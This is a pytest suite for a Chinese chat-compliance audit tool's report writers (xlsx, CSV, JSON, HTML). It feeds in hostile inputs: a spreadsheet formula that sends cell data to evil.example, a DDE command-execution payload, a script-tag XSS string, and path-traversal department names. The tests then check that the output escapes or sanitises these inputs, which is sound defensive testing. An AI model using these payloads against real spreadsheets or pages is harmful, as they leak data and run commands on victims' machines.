"""The written reports read back: xlsx with openpyxl, CSV with pandas, JSON, HTML; hostile chat text
neutralised; per-department files with sanitised names."""
import datetime as dt
import json
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest

from grpaudit.reports import build, write_all
from grpaudit.reports.html import render

from .conftest import DEMO

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
           "\t=1+1", "\r=1+1", "<script>alert('x')</script>"]


@pytest.fixture(scope="module")
def data(demo):
    return build(demo)


@pytest.fixture(scope="module")
def hostile(demo):
    """The demo with chat text and department names chosen to break spreadsheets and paths."""
    f = demo.findings.copy()
    n = len(HOSTILE)
    f.loc[:n - 1, "message"] = HOSTILE
    f.loc[:n - 1, "evidence"] = HOSTILE
    f.loc[0, "person_name"] = "=cmd|' /C calc'!A0"
    roster = demo.dataset.roster.copy()
    roster["department"] = roster["employee_id"].map(
        {"ZD1004": "../../etc/passwd", "ZD1014": "CON", "ZD1003": "销售部/华南"}).fillna(roster["department"])
    return build(replace(demo, findings=f, dataset=replace(demo.dataset, roster=roster)))


def test_workbook_sheets_headers_types(data, tmp_path):
    write_all(data, tmp_path, formats=("xlsx",))
    wb = openpyxl.load_workbook(tmp_path / "audit-2026-10.xlsx")
    assert wb.sheetnames == ["概览", "违规明细", "人员", "群", "部门", "数据质量", "人工检查"]
    ws = wb["违规明细"]
    head = [c.value for c in ws[1]]
    assert head[:4] == ["编号", "规则", "类别", "严重程度"] and ws.max_row == 40
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:T40"
    rows = {r[0]: dict(zip(head, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
    nam002 = next(r for r in rows.values() if r["规则"] == "NAM002" and r["姓名"] == "高远")
    # times are real Excel datetimes (local wall time), dates real dates
    assert nam002["时间"] == dt.datetime(2026, 10, 28, 14, 20, 56) and nam002["日期"] == dt.datetime(2026, 10, 28)
    assert nam002["部门"] == "研发部" and nam002["工号"] == "ZD1021"
    people = wb["人员"]
    top = [c.value for c in people[2]]
    assert top[:4] == ["ZD1004", "林峰", "研发部", 5] and isinstance(top[3], int)
    assert wb["部门"]["A2"].value == "研发部" and wb["部门"]["C2"].value == 14
    quality = [r for r in wb["数据质量"].iter_rows(min_row=2, values_only=True)]
    assert ("skipped", str(DEMO / "chats" / "dingtalk_admin_export.csv"), 26, "error",
            "unparseable 发送时间 '#VALUE!'") in quality
    assert sum(r[0] == "unresolved" for r in quality) == 5
    manual = [r[:2] for r in wb["人工检查"].iter_rows(min_row=2, values_only=True)]
    assert manual[0] == ("000-A", "转发公司发布的朋友圈内容") and len(manual) == len(data.manual) > 0
    # a stored width includes Excel's cell padding (5 px = 0.71 characters of 7 px): take it off
    widths = [d.width - 0.7109375 for d in wb["违规明细"].column_dimensions.values()]
    assert 6 <= min(widths) and max(widths) <= 60


def test_english_headers(data, tmp_path):
    write_all(replace(data, lang="en"), tmp_path, formats=("xlsx", "csv"))
    wb = openpyxl.load_workbook(tmp_path / "audit-2026-10.xlsx")
    assert wb.sheetnames[:3] == ["Summary", "Findings", "People"]
    assert [c.value for c in wb["Findings"][1]][:3] == ["Fingerprint", "Rule", "Category"]
    assert pd.read_csv(tmp_path / "people-2026-10.csv", encoding="utf-8-sig").columns[0] == "Employee id"


def test_csv_per_table_with_bom(data, tmp_path):
    paths = write_all(data, tmp_path, formats=("csv",))
    assert sorted(p.name for p in paths) == sorted(
        f"{t}-2026-10.csv" for t in ("summary", "findings", "people", "groups", "departments", "data-quality",
                                     "manual-checklist"))
    assert all(p.read_bytes().startswith(b"\xef\xbb\xbf") for p in paths)
    f = pd.read_csv(tmp_path / "findings-2026-10.csv", encoding="utf-8-sig", dtype=str)
    assert len(f) == 39 and f.columns[0] == "编号" and f["编号"].str.fullmatch("[0-9a-f]{16}").all()
    assert "2026-10-28 14:20:56" in set(f["时间"])
    p = pd.read_csv(tmp_path / "people-2026-10.csv", encoding="utf-8-sig")
    assert p.loc[0, "姓名"] == "林峰" and p["违规数"].dtype.kind == "i" and p["违规数"].sum() == 39 - 0


def test_hostile_text_is_neutralised_in_csv_and_xlsx(hostile, tmp_path):
    write_all(hostile, tmp_path, formats=("csv", "xlsx"))
    f = pd.read_csv(tmp_path / "findings-2026-10.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    msgs = f["问题说明"].tolist()
    for bad in HOSTILE[:6]:
        assert "'" + bad in msgs, bad
    assert "<script>alert('x')</script>" in msgs             # not a formula: left as is in a spreadsheet
    assert not any(m[:1] in "=+-@\t\r" for m in f["问题说明"]) and not any(m[:1] in "=+-@" for m in f["证据"])
    assert "'=cmd|' /C calc'!A0" in set(f["姓名"])
    wb = openpyxl.load_workbook(tmp_path / "audit-2026-10.xlsx")
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.value[:1] not in ("=", "+", "@", "\t", "\r"), (ws.title, c.value)


def test_split_by_department_sanitises_names_and_keeps_each_head_to_their_people(hostile, tmp_path):
    write_all(hostile, tmp_path, formats=("xlsx", "json"), split_by="department")
    folders = sorted(p.name for p in (tmp_path / "departments").iterdir())
    assert "_.._etc_passwd" in folders and "_CON" in folders and "销售部_华南" in folders
    assert not (tmp_path.parent / "etc").exists()
    assert all(p.resolve().is_relative_to(tmp_path.resolve()) for p in tmp_path.rglob("*"))
    people = json.loads((tmp_path / "departments" / "销售部_华南" / "people-销售部_华南.json").read_text("utf-8"))
    assert [p["person_id"] for p in people] == ["ZD1003"]
    v = json.loads((tmp_path / "departments" / "研发部" / "violations-研发部.json").read_text("utf-8"))
    assert v and {x["department"] for x in v} == {"研发部"}
    wb = openpyxl.load_workbook(tmp_path / "departments" / "_CON" / "audit-2026-10-_CON.xlsx")
    assert {r[0] for r in wb["人员"].iter_rows(min_row=2, values_only=True)} == {"ZD1014"}
    assert wb["数据质量"].max_row == 1            # other departments' identities are not shown to a head


def test_json_contract(data, tmp_path):
    write_all(data, tmp_path, formats=("json",))
    v = json.loads((tmp_path / "violations.json").read_text("utf-8"))
    assert len(v) == 39
    need = {"fingerprint", "rule", "category", "severity", "group", "person_id", "person_name", "time", "clause",
            "evidence", "penalty"}
    assert all(need <= item.keys() for item in v)
    timed = next(x for x in v if x["rule"] == "NAM002" and x["person_name"] == "高远")
    assert timed["time"] == "2026-10-28T14:20:56+08:00" and timed["penalty"] is None
    people = json.loads((tmp_path / "people.json").read_text("utf-8"))
    assert people[0] == {**people[0], "person_id": "ZD1004", "name": "林峰", "department": "研发部", "findings": 5,
                         "fine_yuan": None, "points": None, "actions": None, "grade": None}
    assert sum(p["findings"] for p in people) == 39
    s = json.loads((tmp_path / "summary.json").read_text("utf-8"))
    assert s["version"] == 2 and s["findings"] == 39 and s["by_category"]["naming"] == 10
    assert s["by_severity"] == {"info": 9, "minor": 27, "major": 3, "critical": 0}


def test_unresolved_people_have_null_id_and_display_name(demo, tmp_path):
    f = demo.findings.copy()
    f.loc[0, ["person_id", "person_name"]] = [None, "恒通物流陈师傅"]
    data = build(replace(demo, findings=f))
    write_all(data, tmp_path, formats=("json",))
    v = json.loads((tmp_path / "violations.json").read_text("utf-8"))
    assert v[0]["person_id"] is None and v[0]["person_name"] == "恒通物流陈师傅" and v[0]["department"] is None
    people = json.loads((tmp_path / "people.json").read_text("utf-8"))
    assert {"person_id": None, "name": "恒通物流陈师傅"}.items() <= next(
        p for p in people if p["name"] == "恒通物流陈师傅").items()


def test_priced_money_is_yuan_with_two_decimals(demo, tmp_path):
    from grpaudit.reports.data import build as build_data
    base = build_data(demo)
    fps = base.findings["fingerprint"]
    charges = pd.DataFrame({
        "fingerprint": [fps[0], fps[0], fps[1]], "rule": "NAM001", "category": "naming",
        "role": ["offender", "responsible", "offender"], "person_id": ["ZD1004", "ZD1002", "ZD1021"],
        "person_name": ["林峰", "陈静", "高远"], "department": ["研发部", "行政中心", "研发部"],
        "fine_fen": pd.array([5050, 2000, 999], dtype="int64"), "points": [2, 1, 1], "discretionary": "",
        "action": ["warning", "", ""], "occurrence": [1, 1, 1], "waived": [False, False, True], "basis": "test"})

    class Priced:
        pass
    priced = Priced()
    priced.charges = charges
    data = build_data(demo, priced)
    write_all(data, tmp_path, formats=("xlsx", "json", "csv"))
    v = json.loads((tmp_path / "violations.json").read_text("utf-8"))
    assert v[0]["penalty"]["fine_yuan"] == 70.5 and v[0]["penalty"]["points"] == 3
    assert [c["fine_yuan"] for c in v[0]["penalty"]["charges"]] == [50.5, 20.0]
    assert v[1]["penalty"]["fine_yuan"] == 0 and v[1]["penalty"]["charges"][0]["waived"] is True
    wb = openpyxl.load_workbook(tmp_path / "audit-2026-10.xlsx")
    ws = wb["人员"]
    head = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "ZD1004")
    fine = row[head.index("罚款（元）")]
    assert fine.value == 50.5 and fine.number_format == "#,##0.00"
    assert "处罚明细" in wb.sheetnames
    charges = wb["处罚明细"]
    head = [c.value for c in charges[1]]
    waived = [r[head.index("已豁免")] for r in charges.iter_rows(min_row=2)]
    assert [c.value for c in waived] == [False, False, True] and {c.data_type for c in waived} == {"b"}
    assert [r[head.index("罚款（元）")].number_format for r in charges.iter_rows(min_row=2)] == ["#,##0.00"] * 3
    s = json.loads((tmp_path / "summary.json").read_text("utf-8"))
    assert s["fine_yuan"] == 70.5
    for name in ("violations.json", "people.json", "summary.json"):     # orjson's layout is the stdlib's
        text = (tmp_path / name).read_text("utf-8")
        assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2) + "\n", name
    assert "50.50" in (tmp_path / "people-2026-10.csv").read_text("utf-8-sig")


def test_html_is_self_contained_and_escaped(hostile, tmp_path):
    write_all(hostile, tmp_path, formats=("html",))
    page = (tmp_path / "audit-2026-10.html").read_text("utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "http-equiv=\"Content-Security-Policy\"" in page and "default-src 'none'" in page
    for external in ("src=\"http", "href=\"http", "@import", "url(", "<link"):
        assert external not in page
    assert page.count("<svg") == 3 and page.count("<script>") == 1
    assert page.count("<tr>") >= 39 + 1 + len(hostile.people.head(10))


def test_empty_month_still_writes_every_report(demo, tmp_path):
    data = build(replace(demo, findings=demo.findings.iloc[0:0]))
    paths = write_all(data, tmp_path, split_by="department")
    assert len(paths) == 1 + 7 + 3 + 1 and not (tmp_path / "departments").exists()
    assert json.loads((tmp_path / "violations.json").read_text("utf-8")) == []
    ws = openpyxl.load_workbook(tmp_path / "audit-2026-10.xlsx")["违规明细"]
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:T1" and ws.freeze_panes == "A2"
    assert "<table id=\"findings\">" in render(data)


def test_unknown_format_or_split_is_refused(data, tmp_path):
    with pytest.raises(ValueError, match="pdf"):
        write_all(data, tmp_path, formats=("pdf",))
    with pytest.raises(ValueError, match="group"):
        write_all(data, tmp_path, split_by="group")
    assert list(tmp_path.iterdir()) == []


def _cells(path):
    wb = openpyxl.load_workbook(path)
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def test_a_workbook_written_beside_the_other_formats_is_the_same(hostile, tmp_path, monkeypatch):
    import grpaudit.reports as reports
    write_all(hostile, tmp_path / "alone", formats=("xlsx",), split_by="department")
    monkeypatch.setattr(reports, "PARALLEL_ROWS", 0)        # the demo is small: fork anyway
    paths = write_all(hostile, tmp_path / "beside", formats=("xlsx", "csv"), split_by="department")
    books = sorted(p.relative_to(tmp_path / "beside") for p in paths if p.suffix == ".xlsx")
    assert books == sorted(p.relative_to(tmp_path / "alone") for p in (tmp_path / "alone").rglob("*.xlsx"))
    assert len(books) > 1 and all((tmp_path / "beside" / b).exists() for b in books)
    for b in books:
        assert _cells(tmp_path / "beside" / b) == _cells(tmp_path / "alone" / b)
    assert (tmp_path / "beside" / "findings-2026-10.csv").exists()


def test_an_error_writing_the_workbook_beside_is_raised_here(data, tmp_path, monkeypatch):
    import grpaudit.reports as reports

    def broken(data, path):
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr(reports, "PARALLEL_ROWS", 0)
    monkeypatch.setattr(reports.xlsx, "write", broken)       # set before the fork: the worker has it too
    with pytest.raises(OSError, match="No space left"):
        write_all(data, tmp_path, formats=("xlsx", "csv"))
    assert (tmp_path / "findings-2026-10.csv").exists()      # the other formats were written meanwhile
